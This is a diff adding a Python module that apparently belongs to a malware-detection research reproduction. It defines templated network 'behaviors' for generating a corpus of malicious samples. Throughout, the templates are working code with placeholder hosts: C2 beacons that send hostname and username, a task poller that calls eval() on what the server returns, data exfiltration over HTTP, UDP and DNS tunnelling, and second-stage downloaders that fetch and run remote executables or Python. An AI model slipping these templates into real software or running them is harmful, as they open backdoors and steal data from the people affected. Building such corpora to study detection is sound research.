@@ -1,0 +1,231 @@
+"""Network-related behaviours (paper Table XII category 4).
+
+Subcategories: C2 Communication, Data Exfiltration Channels, Malicious
+Downloads, DNS/Protocol Abuse.
+"""
+
+from __future__ import annotations
+
+from repro.corpus.behaviors.base import Behavior
+
+BEHAVIORS: list[Behavior] = [
+    # -- C2 Communication ----------------------------------------------------
+    Behavior(
+        key="c2_socket_beacon",
+        subcategory="C2 Communication",
+        description="Beacon to a command-and-control server over a raw TCP socket.",
+        variants=[
+            (
+                ["import socket", "import platform", "import getpass"],
+                """
+                def {func}_beacon():
+                    info = platform.node() + '|' + getpass.getuser() + '|' + platform.system()
+                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                    try:
+                        s.connect(("{ip}", {port}))
+                        s.sendall(info.encode())
+                        command = s.recv(4096).decode()
+                        return command
+                    except OSError:
+                        return None
+                    finally:
+                        s.close()
+                """,
+                "{func}_beacon()",
+                None,
+            ),
+            (
+                ["import socket", "import time", "import os"],
+                """
+                def {func}_loop():
+                    while True:
+                        try:
+                            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                            s.connect(("{host}", {port}))
+                            s.sendall(os.getenv("USERNAME", "unknown").encode())
+                            task = s.recv(1024)
+                            s.close()
+                            if task:
+                                return task.decode()
+                        except OSError:
+                            time.sleep(30)
+                            continue
+                        time.sleep(300)
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import http.client", "import json", "import platform"],
+                """
+                def {func}_poll():
+                    conn = http.client.HTTPSConnection("{host}")
+                    body = json.dumps([platform.node(), platform.machine(), platform.release()])
+                    conn.request("POST", "/gate.php", body)
+                    reply = conn.getresponse().read()
+                    conn.close()
+                    return reply
+                """,
+                "{func}_poll()",
+                None,
+            ),
+        ],
+    ),
+    Behavior(
+        key="c2_http_tasking",
+        subcategory="C2 Communication",
+        description="Poll an HTTP C2 endpoint for tasks and report results.",
+        variants=[
+            (
+                ["import requests", "import uuid"],
+                """
+                def {func}_task():
+                    bot_id = str(uuid.getnode())
+                    r = requests.get("{url}", params=dict(id=bot_id), timeout=10)
+                    if r.status_code == 200 and r.text:
+                        output = eval(r.text)
+                        requests.post("{url}", data=str(output), timeout=10)
+                """,
+                "{func}_task()",
+                None,
+            ),
+            (
+                ["import urllib.request", "import platform"],
+                """
+                def {func}_checkin():
+                    agent = platform.platform()
+                    req = urllib.request.Request("{url}", data=agent.encode(),
+                                                 headers=dict(Authorization="Bearer bot"))
+                    with urllib.request.urlopen(req, timeout=15) as resp:
+                        return resp.read()
+                """,
+                "{func}_checkin()",
+                None,
+            ),
+        ],
+    ),
+    # -- Data Exfiltration Channels -------------------------------------------
+    Behavior(
+        key="exfil_http_post",
+        subcategory="Data Exfiltration Channels",
+        description="POST harvested data to an attacker-controlled endpoint.",
+        variants=[
+            (
+                ["import requests", "import json", "import os"],
+                """
+                def {func}_upload({var}):
+                    blob = json.dumps(dict(host=os.getenv("COMPUTERNAME", ""), data={var}))
+                    try:
+                        requests.post("{url}", data=blob,
+                                      headers=dict(Content_Type="application/json"), timeout=8)
+                    except Exception:
+                        pass
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import urllib.request", "import base64"],
+                """
+                def {func}_send({var}):
+                    encoded = base64.b64encode({var}.encode()).decode()
+                    req = urllib.request.Request("http://{ip}:{port}/upload", data=encoded.encode())
+                    urllib.request.urlopen(req, timeout=10)
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import socket"],
+                """
+                def {func}_push({var}):
+                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+                    for i in range(0, len({var}), 400):
+                        s.sendto({var}[i:i + 400].encode(), ("{ip}", {port}))
+                    s.close()
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+    # -- Malicious Downloads ---------------------------------------------------
+    Behavior(
+        key="download_second_stage",
+        subcategory="Malicious Downloads",
+        description="Download a second-stage payload and execute it.",
+        variants=[
+            (
+                ["import urllib.request", "import os", "import tempfile"],
+                """
+                def {func}_stage2():
+                    target = os.path.join(tempfile.gettempdir(), "{var}.exe")
+                    urllib.request.urlretrieve("https://{host}/dl/{var}.exe", target)
+                    os.startfile(target) if hasattr(os, "startfile") else os.system(target)
+                """,
+                "{func}_stage2()",
+                None,
+            ),
+            (
+                ["import requests", "import subprocess", "import tempfile", "import os"],
+                """
+                def {func}_dropper():
+                    r = requests.get("{paste_url}", timeout=20)
+                    script = os.path.join(tempfile.gettempdir(), "u{port}.py")
+                    with open(script, "w") as handle:
+                        handle.write(r.text)
+                    subprocess.Popen(["python", script], stdout=subprocess.DEVNULL,
+                                     stderr=subprocess.DEVNULL)
+                """,
+                "{func}_dropper()",
+                None,
+            ),
+            (
+                ["import urllib.request"],
+                """
+                def {func}_fetch_exec():
+                    code = urllib.request.urlopen("https://{host}/boot.py", timeout=20).read()
+                    exec(compile(code, "<remote>", "exec"))
+                """,
+                "{func}_fetch_exec()",
+                None,
+            ),
+        ],
+    ),
+    # -- DNS/Protocol Abuse -----------------------------------------------------
+    Behavior(
+        key="dns_tunnel_exfil",
+        subcategory="DNS/Protocol Abuse",
+        description="Exfiltrate data through DNS lookups of encoded subdomains.",
+        variants=[
+            (
+                ["import socket", "import base64"],
+                """
+                def {func}_dns({var}):
+                    chunks = base64.b32encode({var}.encode()).decode().strip("=").lower()
+                    for i in range(0, len(chunks), 40):
+                        label = chunks[i:i + 40]
+                        try:
+                            socket.gethostbyname(label + ".{host}")
+                        except socket.gaierror:
+                            pass
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import socket"],
+                """
+                def {func}_resolve_gate():
+                    try:
+                        answer = socket.gethostbyname("cmd.{host}")
+                        return answer
+                    except socket.gaierror:
+                        return None
+                """,
+                "{func}_resolve_gate()",
+                None,
+            ),
+        ],
+    ),
+]
